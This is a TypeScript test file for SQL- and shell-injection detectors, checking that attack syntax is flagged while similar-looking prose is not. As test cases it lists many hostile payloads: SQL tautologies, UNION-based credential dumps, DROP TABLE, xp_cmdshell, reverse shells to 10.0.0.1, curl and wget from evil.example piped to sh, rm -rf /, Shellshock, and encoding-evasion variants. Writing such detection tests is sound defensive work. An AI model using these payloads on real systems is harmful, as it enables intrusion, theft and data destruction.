// The SQL and shell detectors: injection syntax is found, the same words in prose are not.
import { describe, expect, it } from "vitest";
import { shellDetector, sqlDetector } from "./injection.ts";

const sql = sqlDetector();
const shell = shellDetector();
const sqlRules = (text: string): string[] => sql.detect(text).map((f) => f.rule);
const shellRules = (text: string): string[] => shell.detect(text).map((f) => f.rule);

describe("sqlDetector", () => {
  const cases: [rule: string, text: string][] = [
    ["tautology", "' or 1=1 --"],
    ["tautology", "' OR 'a'='a"],
    ["tautology", '" or ""="'],
    ["tautology", "'or''='"],
    ["tautology", "') or ('x')=('x"],
    ["tautology", "admin' or 1=1#"],
    ["tautology", "1 or 1=1"],
    ["tautology", "') or true--"],
    ["string-concat", "1'||'asd'||'"],
    ["operator-between-quotes", "'-'"],
    ["operator-between-quotes", '"&"'],
    ["comment-after-quote", "admin' --"],
    ["comment-after-quote", "admin'#"],
    ["comment-after-quote", 'admin"/*'],
    ["union-select", "1 UNION SELECT username, password FROM users"],
    ["union-select", "0 union all select null,null"],
    ["union-select", "1 UNION/**/SELECT 1"],
    ["stacked-query", "1; DROP TABLE users"],
    ["stacked-query", "x'; DELETE FROM accounts WHERE 1"],
    ["stacked-query", "1); exec xp_cmdshell 'dir'"],
    ["stacked-query", "'; shutdown--"],
    ["time-based", "1 AND SLEEP(5)"],
    ["time-based", "1; SELECT pg_sleep(10)"],
    ["time-based", "BENCHMARK(2000000,SHA1(1))"],
    ["time-based", "'; WAITFOR DELAY '0:0:5'--"],
    ["schema-probe", "SELECT table_name FROM information_schema.tables"],
    ["schema-probe", "SELECT @@version"],
    ["xp-cmdshell", "EXEC master..xp_cmdshell 'whoami'"],
    ["file-access", "SELECT LOAD_FILE('/etc/passwd')"],
    ["file-access", "SELECT 1 INTO OUTFILE '/tmp/x'"],
    ["executable-comment", "1/*!50000union*/"],
  ];
  for (const [rule, text] of cases) it(`${rule}: ${JSON.stringify(text)}`, () => expect(sqlRules(text)).toContain(rule));

  it("sees full-width keywords and zero-width splits (normalizeForMatching first)", () => {
    expect(sqlRules("1 ＵＮＩＯＮ ｓｅｌｅｃｔ 1")).toContain("union-select");
    expect(sqlRules("' o\u200Br 1=1")).toContain("tautology");
  });

  it("decodes percent and entity encoding", () => {
    expect(sqlRules("%27%20or%201%3D1--")).toContain("tautology");
    expect(sqlRules("&#39; or &#39;a&#39;=&#39;a")).toContain("tautology");
  });

  const prose = [
    "Select the best option from the menu",
    "I'll update you; drop me a line",
    "union of sets",
    "O'Reilly",
    "it's 1=1 in math",
    "The trade union selected its new leader.",
    "Please finish the draft; delete from it whatever you like.",
    "'A' or 'B' are both fine",
    "Get some sleep (8 hours) tonight.",
    "He said 'hi' -- then he left.",
    "Don't forget the #general channel.",
    "Rock 'n' roll",
    "a=1 and b=2",
  ];
  for (const text of prose) it(`leaves prose alone: ${JSON.stringify(text)}`, () => expect(sql.detect(text)).toEqual([]));

  it("has no sanitize: a query cannot be repaired by deleting characters", () => {
    expect(sql.sanitize).toBeUndefined();
  });
});

describe("shellDetector", () => {
  const cases: [rule: string, text: string][] = [
    ["command-separator", "file.txt; id"],
    ["command-separator", "x && cat /etc/hosts"],
    ["command-separator", "x || wget http://evil.example/x"],
    ["command-separator", "& ping -i 30 127.0.0.1 &"],
    ["command-separator", "a;/usr/bin/id;"],
    ["pipe-command", "/index.html|id|"],
    ["pipe-command", "x | nc evil.example 4444"],
    ["newline-command", "report.pdf\nwhoami"],
    ["newline-command", "%0Acat%20/etc/passwd"],
    ["newline-command", "name\\n/bin/ls -al"],
    ["command-substitution", "$(touch /tmp/pwned)"],
    ["command-substitution", "`id`"],
    ["command-substitution", "`ping 127.0.0.1`"],
    ["ifs-evasion", "cat${IFS}/etc/passwd"],
    ["dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["payload-command", "cat /etc/passwd"],
    ["payload-command", "curl -s https://evil.example/i.sh | sh"],
    ["payload-command", "nc -e /bin/sh 10.0.0.1 4444"],
    ["payload-command", "ncat 10.0.0.1 4444 -e bash"],
    ["payload-command", "bash -i"],
    ["payload-command", "rm -rf /"],
    ["payload-command", "() { :; }; echo vulnerable"],
    ["payload-command", ";system('id')"],
    ["ssi-exec", '<!--#exec cmd="/usr/bin/id"-->'],
    ["ssi-exec", "&lt;!--#exec%20cmd=&quot;/bin/cat%20/etc/passwd&quot;--&gt;"],
  ];
  for (const [rule, text] of cases) it(`${rule}: ${JSON.stringify(text)}`, () => expect(shellRules(text)).toContain(rule));

  it("sees full-width separators and zero-width splits (normalizeForMatching first)", () => {
    expect(shellRules("x；ｉｄ")).toContain("command-separator");
    expect(shellRules("x; who\u200Bami")).toContain("command-separator");
  });

  const prose = [
    "Tom & Jerry",
    "a | b table in markdown",
    "| id | name | email |\n| --- | --- | --- |\n| 1 | Ann | ann@example.com |",
    "price: $5",
    "salt & pepper; cats & dogs",
    "Dogs bark; cat food is on sale.",
    "https://example.com/?a=1&id=5&cat=toys",
    "Run the tests, then deploy; echo chamber effects are real.",
    "$HOME and ${name} are placeholders",
    "C:\\Users\\nick\\id_rsa.pub",
    "I sleep well & wake early.",
    "Raleigh, NC 27601 sells free-range eggs",
  ];
  for (const text of prose) it(`leaves prose alone: ${JSON.stringify(text)}`, () => expect(shell.detect(text)).toEqual([]));

  it("tradeoff: a padded markdown table row is not a pipe, an unpadded |id| is", () => {
    expect(shellRules("| id | whoami |")).toEqual([]);
    expect(shellRules("|id|")).toContain("pipe-command");
    expect(shellRules("| a | b |\n`id`")).toContain("command-substitution");
  });

  it("has no sanitize: quoting belongs to whoever builds the command line", () => {
    expect(shell.sanitize).toBeUndefined();
  });
});

/**
 * Each rule runs only on forms holding a character or word every match needs (a prefilter). These
 * payloads show their trigger only in upper case, after decoding, or at the very end of the text:
 * a prefilter that looked at the wrong form or case would let them through.
 */
describe("prefilters skip no match", () => {
  const cases: [rules: string[], text: string, detect: (text: string) => string[]][] = [
    [["tautology"], "name OR x LIKE x", sqlRules],
    [["tautology"], "1 OR TRUE#", sqlRules],
    [["tautology"], "&#39; OR 1=1--", sqlRules],
    [["comment-after-quote"], "admin' --  \n ", sqlRules],
    [["comment-after-quote"], "admin'#\t", sqlRules],
    [["union-select"], "1%20UNION%20SELECT%201", sqlRules],
    [["comment-after-quote", "time-based"], "'; WAITFOR DELAY '0:0:5'--", sqlRules],
    [["time-based"], "1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1", sqlRules],
    [["schema-probe"], "SELECT name FROM SYSOBJECTS", sqlRules],
    [["schema-probe"], "SELECT user FROM MYSQL.USER", sqlRules],
    [["file-access"], "SELECT 1 INTO OUTFILE '/tmp/x'", sqlRules],
    [["file-access"], "SELECT 1 INTO DUMPFILE '/tmp/x'", sqlRules],
    [["command-separator", "payload-command"], "x; CAT /ETC/PASSWD", shellRules],
    [["payload-command"], "WGET http://x.example/a.sh | SH", shellRules],
    [["payload-command"], "NC -E /bin/sh 10.0.0.1 4444", shellRules],
    [["payload-command"], "BASH -I", shellRules],
    [["payload-command"], "RM -RF /", shellRules],
    [["payload-command"], "MKFIFO /tmp/f", shellRules],
    [["payload-command"], "() { :; }; echo hi", shellRules],
    [["payload-command"], "SYSTEM('id')", shellRules],
    [["dev-tcp"], "exec > /DEV/TCP/10.0.0.1/80", shellRules],
    [["newline-command"], "a\\nid", shellRules],
    [["newline-command"], "a%0Aid", shellRules],
    [["command-separator", "pipe-command"], "x&#124;id", shellRules],
  ];
  for (const [rules, text, detect] of cases) it(`${rules.join(", ")}: ${JSON.stringify(text)}`, () => expect(detect(text)).toEqual(rules));

  it("a word a rule looks for, in prose, is still no finding", () => {
    expect(sqlRules("I like it; or not.")).toEqual([]);
    expect(shellRules("Please remove the -i flag, then rm the old file.")).toEqual([]);
  });
});
